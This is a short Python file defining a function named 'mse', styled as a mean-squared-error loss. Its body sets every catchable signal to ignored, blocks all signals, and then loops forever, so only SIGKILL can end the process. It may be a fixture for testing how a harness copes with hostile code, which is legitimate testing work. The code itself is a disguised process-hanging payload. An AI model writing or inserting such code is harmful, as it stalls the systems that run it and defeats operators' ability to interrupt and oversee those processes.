"""mse ignores and blocks every signal it can, then loops forever: only SIGKILL from outside stops it."""

import signal


def mse(input, target, reduction="mean"):
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError, RuntimeError):
            pass  # SIGKILL and SIGSTOP cannot be ignored
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
    while True:
        pass
